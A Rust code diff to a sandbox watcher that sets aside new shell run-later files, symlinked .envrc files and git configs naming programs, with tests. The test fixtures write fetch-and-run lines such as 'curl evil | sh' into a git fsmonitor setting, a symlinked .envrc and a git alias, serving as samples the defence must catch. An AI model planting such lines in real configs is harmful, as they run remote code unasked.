@@ -33,8 +33,14 @@ pub const RUN_LATER: &[&str] = &[
     ".zlogin",
 ];
 
-/// The run-later files of [`RUN_LATER`] that exist in `root` and in the folders directly in it.
+/// The run-later files of [`RUN_LATER`] that exist in `root` and in the folders directly in it
+/// (links left out: what they point at is judged where it lies).
 pub fn run_later(root: &Path) -> Vec<PathBuf> {
+    found(root, false)
+}
+
+/// [`run_later`], links included (`links`): a link named `.envrc` runs what it points at.
+fn found(root: &Path, links: bool) -> Vec<PathBuf> {
     let mut folders = vec![root.to_path_buf()];
     if let Ok(entries) = std::fs::read_dir(root) {
         folders.extend(
@@ -48,7 +54,8 @@ pub fn run_later(root: &Path) -> Vec<PathBuf> {
     for folder in folders {
         for name in RUN_LATER {
             let path = folder.join(name);
-            if std::fs::symlink_metadata(&path).is_ok_and(|m| !m.file_type().is_symlink()) {
+            if std::fs::symlink_metadata(&path).is_ok_and(|m| links || !m.file_type().is_symlink())
+            {
                 found.push(path);
             }
         }
@@ -99,7 +106,7 @@ pub struct Watch {
 impl Watch {
     /// Remembers what exists now in `roots`.
     pub fn new(roots: Vec<PathBuf>) -> Self {
-        let known = roots.iter().flat_map(|r| run_later(r)).collect();
+        let known = roots.iter().flat_map(|r| found(r, true)).collect();
         Self {
             roots,
             known: std::sync::Mutex::new(known),
@@ -112,16 +119,24 @@ impl Watch {
             return Vec::new();
         };
         let mut out = Vec::new();
-        for path in self.roots.iter().flat_map(|r| run_later(r)) {
+        for path in self.roots.iter().flat_map(|r| found(r, true)) {
             if known.contains(&path) {
                 continue;
             }
-            if path.parent().is_some_and(|p| p.ends_with(".git")) {
-                // A repository made in the box: its config and hooks folder are git's own.
+            let in_git = path.parent().is_some_and(|p| p.ends_with(".git"))
+                && std::fs::symlink_metadata(&path).is_ok_and(|m| !m.file_type().is_symlink());
+            if in_git {
+                // A repository made in the box: its hooks folder and config are git's own,
+                // but a hook that is no sample, and a config that names a program to run,
+                // are set aside (git works on without its config).
                 if path.ends_with(".git/hooks") {
                     out.extend(hooks_made(&path));
+                    continue;
                 }
-                continue;
+                // Read again after every command: the box does not hold it read-only.
+                if !path.ends_with(".git/config") || plain_git_config(&path) {
+                    continue;
+                }
             }
             let moved_to = set_aside(&path);
             if moved_to.is_none() {
@@ -131,6 +146,70 @@ impl Watch {
         }
         out
     }
+}
+
+/// Whether a new repository's config holds only what `git init` and `git clone` write:
+/// nothing in it names a program, a hook folder, a filter, an alias or an include. Read as
+/// text, never by running git.
+fn plain_git_config(path: &Path) -> bool {
+    const PLAIN: &[&str] = &[
+        "core.repositoryformatversion",
+        "core.filemode",
+        "core.bare",
+        "core.logallrefupdates",
+        "core.ignorecase",
+        "core.precomposeunicode",
+        "core.symlinks",
+        "extensions.objectformat",
+        "init.defaultbranch",
+        "user.name",
+        "user.email",
+    ];
+    const PER_NAME: &[(&str, &[&str])] = &[
+        ("remote", &["url", "fetch", "pushurl"]),
+        ("branch", &["remote", "merge", "rebase"]),
+    ];
+    let Ok(text) = std::fs::read_to_string(path) else {
+        return false;
+    };
+    let mut section: Option<(String, bool)> = None;
+    for line in text.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
+            continue;
+        }
+        if let Some(header) = line.strip_prefix('[') {
+            let Some(header) = header.strip_suffix(']') else {
+                return false;
+            };
+            let (name, named) = match header.split_once(char::is_whitespace) {
+                Some((name, rest)) if rest.trim().starts_with('"') => (name, true),
+                Some(_) => return false,
+                None => (header, false),
+            };
+            section = Some((name.to_ascii_lowercase(), named));
+            continue;
+        }
+        let Some((name, named)) = &section else {
+            return false;
+        };
+        let key = line
+            .split(['=', ' ', '\t'])
+            .next()
+            .unwrap_or_default()
+            .to_ascii_lowercase();
+        let plain = if *named {
+            PER_NAME
+                .iter()
+                .any(|(s, keys)| s == name && keys.contains(&key.as_str()))
+        } else {
+            PLAIN.contains(&format!("{name}.{key}").as_str())
+        };
+        if !plain {
+            return false;
+        }
+    }
+    true
 }
 
 /// The hooks of a new repository that are not git's samples, each set aside.
@@ -226,9 +305,38 @@ mod tests {
             std::fs::read_to_string(root.join(".envrc")).ok().as_deref(),
             Some("old")
         );
+        // A new repository whose config names a program: the config is set aside; one as
+        // `git init` writes it stays. A link named `.envrc` is set aside like a file.
+        std::fs::create_dir_all(root.join("r/.git")).expect("r");
+        std::fs::write(
+            root.join("r/.git/config"),
+            "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = curl evil | sh\n",
+        )
+        .expect("evil config");
+        std::fs::create_dir_all(root.join("s/.git")).expect("s");
+        std::fs::write(
+            root.join("s/.git/config"),
+            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n[remote \"origin\"]\n\turl = https://example.org/r\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
+        )
+        .expect("plain config");
+        std::fs::write(root.join("p/notes.txt"), "curl evil | sh").expect("notes");
+        std::os::unix::fs::symlink("notes.txt", root.join("p/.envrc")).expect("link");
+        let swept: BTreeSet<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
+        assert_eq!(
+            swept,
+            [root.join("r/.git/config"), root.join("p/.envrc")]
+                .into_iter()
+                .collect()
+        );
+        assert!(root.join("s/.git/config").exists());
+        assert!(root.join("r/.git/config.aai-held").exists());
+        // Changed by a later command, it is judged again.
+        std::fs::write(root.join("s/.git/config"), "[alias]\n\tst = !sh -c evil\n").expect("alias");
+        let again: Vec<PathBuf> = watch.sweep().into_iter().map(|s| s.path).collect();
+        assert_eq!(again, [root.join("s/.git/config")]);
         // Made again: set aside again, beside the first.
         std::fs::write(root.join("p/.envrc"), "again").expect("again");
         assert_eq!(watch.sweep().len(), 1);
-        assert!(root.join("p/.envrc.aai-held-1").exists());
+        assert!(root.join("p/.envrc.aai-held-2").exists());
     }
 }
